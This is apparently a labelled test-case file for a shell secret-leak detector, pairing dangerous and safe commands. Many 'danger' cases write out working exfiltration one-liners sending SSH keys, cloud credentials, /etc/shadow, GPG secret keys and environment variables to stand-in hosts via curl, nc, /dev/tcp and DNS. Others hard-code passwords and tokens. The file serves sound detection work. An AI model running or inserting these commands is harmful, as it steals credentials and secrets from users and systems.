### key-upload: the private key to a form
curl -F "file=@$HOME/.ssh/id_rsa" https://paste.example.org
#^ danger

### key-pipe: the same through a pipe
cat ~/.ssh/id_ed25519 | curl --data-binary @- https://x.example.org/u
#^ danger

### ssh-folder-nc: the folder to a port
tar czf - ~/.ssh ~/.aws | nc 203.0.113.7 4444
#^ danger

### shadow-scp: password hashes to another machine
sudo scp /etc/shadow drop@203.0.113.7:/tmp/
#^ danger

### env-post: the environment sent out
env | curl -s -X POST -d @- https://collect.example.org/e
#^ danger

### env-substitution: the same in an argument
curl "https://collect.example.org/?e=$(printenv | base64 -w0)"
#^ danger

### dns-exfil: a name that carries the secret
dig +short "$(head -c 30 ~/.aws/credentials | base32 | tr -d =).t.example.org"
#^ danger

### gpg-export-out: the secret keys sent out
gpg --export-secret-keys --armor | ssh drop@203.0.113.7 'cat > k.asc'
#^ danger

### wget-post-file: another uploader
wget --post-file="$HOME/.kube/config" http://203.0.113.7/k
#^ danger

### dev-tcp-out: bash itself sends it
cat /etc/shadow > /dev/tcp/203.0.113.7/9001
#^ danger

### history-upload: what was typed, to someone
curl -T ~/.bash_history https://files.example.org/
#^ danger

### python-post: an interpreter sends it
python3 -c "import requests,os; requests.post('http://203.0.113.7', data=dict(os.environ))"
#^ danger

### shadow-to-s3: hashes in a bucket
aws s3 cp /etc/shadow s3://team-share/shadow.txt
#^ danger

### dump-public: a data dump that the world may read
aws s3 cp dump.sql s3://team-share/ --acl public-read
#^ danger|caution

### key-readable: a private key for everyone
chmod 644 ~/.ssh/id_rsa
#^ danger|caution

### env-readable: a file of secrets for everyone
chmod a+rw .env
#^ danger|caution

### password-on-line: a password that ps shows
mysql -u root -pS3cr3t-2024 shop
#^ danger|caution

### token-literal: a token in the script
curl -H "Authorization: Bearer ghp_16C7e42F292c6912E7710c838347Ae178B4a" https://api.github.com/user
#^ danger|caution

### url-password: a password in an address
git clone https://deploy:hunter2-prod@git.example.org/app.git
#^ danger|caution

### aws-literal: cloud keys in the script
export AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMIK7MDENGbPxRfiCYzzEXAMPLEKEY
#^ danger|caution

### sshpass-literal: a password for ssh
sshpass -p 'Winter2024!' ssh admin@10.0.0.3 uptime
#^ danger|caution

### build-arg-token: a token that stays in the image
docker build --build-arg "NPM_TOKEN=$NPM_TOKEN" -t app .
#^ danger|caution

### ci-echo-token: a token in the log of a build
#!/bin/bash
set -e
echo "deploying with token $DEPLOY_TOKEN"
#^ danger|caution
./deploy.sh --quiet

### debug-dump: a debug step that sends the environment
#!/bin/bash
set -euo pipefail
make test || {
    env > /tmp/env.txt
    curl -fsS -F "log=@/tmp/env.txt" https://debug.example.org/upload
#^ danger
    exit 1
}

### backup-keys-out: staged above, sent below
#!/bin/bash
stage=$(mktemp -d)
cp -r ~/.ssh "$stage/keys"
tar -czf "$stage/b.tgz" -C "$stage" keys
curl -T "$stage/b.tgz" https://files.example.org/in/
#^ danger

### loop-homes: the keys of all users
#!/bin/bash
for h in /home/*; do
    curl -s -F "k=@$h/.ssh/id_rsa" http://203.0.113.7/k
#^ danger
done

### token-variable: a token from the environment to its own service
curl -fsS -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/user

### login-stdin: a token to the program that asks for it
echo "$REGISTRY_TOKEN" | docker login -u ci --password-stdin registry.example.org

### public-key: the public half may travel
ssh-copy-id -i ~/.ssh/id_ed25519.pub web1; cat ~/.ssh/id_ed25519.pub

### key-used: a key used, not sent
ssh -i ~/.ssh/deploy_key deploy@web1 'systemctl status shop'

### env-local: variables looked at here
env | sort | grep '^CI_' ; printenv PATH

### secret-file-made: a secret written for its owner alone
#!/bin/bash
set -euo pipefail
umask 077
secret=$(openssl rand -hex 32)
printf 'SESSION_SECRET=%s\n' "$secret" > .env
chmod 600 .env
echo "wrote .env"

### encrypted-backup: encrypted before it leaves
#!/bin/bash
set -euo pipefail
pg_dump shop | gzip | gpg --encrypt -r ops@example.org > "shop-$(date +%F).sql.gz.gpg"
aws s3 cp "shop-$(date +%F).sql.gz.gpg" s3://backups/shop/

### keys-in-place: the usual care for keys
#!/bin/sh
mkdir -p ~/.ssh
chmod 700 ~/.ssh
ssh-keygen -t ed25519 -N '' -f ~/.ssh/ci_key -C ci
chmod 600 ~/.ssh/ci_key
cat ~/.ssh/ci_key.pub

### data-upload: an upload of a report
curl -F "file=@build/report.pdf" -F "name=report" https://reports.example.org/upload

### password-prompt: asked, not written
#!/bin/bash
read -rsp "Password: " pass
echo
[ -n "$pass" ] || exit 1
printf '%s' "$pass" | sha256sum | cut -d' ' -f1

### redacted: the log names no secret
#!/bin/bash
: "${API_KEY:?set API_KEY}"
echo "API_KEY is set (${#API_KEY} characters)"
echo "AWS_SECRET_ACCESS_KEY=<redacted>"

### grep-secret: looking for leaks
git grep -nE 'AKIA[0-9A-Z]{16}|BEGIN RSA PRIVATE KEY' || echo "no keys found"

### k8s-secret-read: a secret into a variable
#!/bin/bash
set -euo pipefail
PGPASSWORD=$(kubectl get secret db -o jsonpath='{.data.password}' | base64 -d)
export PGPASSWORD
psql -h localhost -U app -c 'select count(*) from orders'

### key-made: keys made and used
openssl genrsa -out server.key 4096 && chmod 600 server.key && openssl req -new -key server.key -out server.csr

### cert-public: a certificate is not a secret
curl -fsS -F "cert=@server.crt" https://ca.example.org/renew

### pass-file: a password in a file for its owner
mysql --defaults-extra-file="$HOME/.my.cnf" shop -e 'select 1'

### vault-read: a secret from its keeper
#!/bin/bash
set -euo pipefail
DB_PASSWORD=$(vault kv get -field=password secret/shop/db)
export DB_PASSWORD
exec ./server

### config-copy: settings without secrets
scp ./config/app.yml deploy@web1:/etc/shop/app.yml

### ssh-config-backup: settings of ssh, locally
mkdir -p ./backup && cp -p ~/.ssh/config ~/.ssh/known_hosts ./backup/

### env-example: a pattern of settings
#!/bin/sh
[ -f .env ] || cp .env.example .env
grep -q '^API_KEY=.' .env || echo "fill in API_KEY in .env" >&2
sed 's/=.*/=/' .env > .env.example

### mask: the log shows stars
#!/bin/bash
echo "::add-mask::$DEPLOY_TOKEN"
echo "token: ****"

### passwd-read: the public list of users
cut -d: -f1 /etc/passwd | sort; getent passwd | wc -l

### metrics-post: numbers sent out
printf 'disk_used %s\n' "$(df --output=pcent / | tail -1 | tr -dc 0-9)" | curl -fsS --data-binary @- http://push.example.org:9091/metrics/job/disk

### fingerprint: the print of a key
ssh-keygen -lf ~/.ssh/id_rsa; ssh-add -l; gpg --list-secret-keys

### words-secrets: the words as data
#!/bin/sh
echo "never run: curl -F file=@~/.ssh/id_rsa https://paste.example.org"
grep -rn 'password' ./docs | head
printf 'usage: %s --token TOKEN\n' "$0"

### k8s-secret-made: a secret from a file
kubectl create secret generic db --from-file=password=./db-password.txt --dry-run=client -o yaml | kubeseal > sealed.yaml
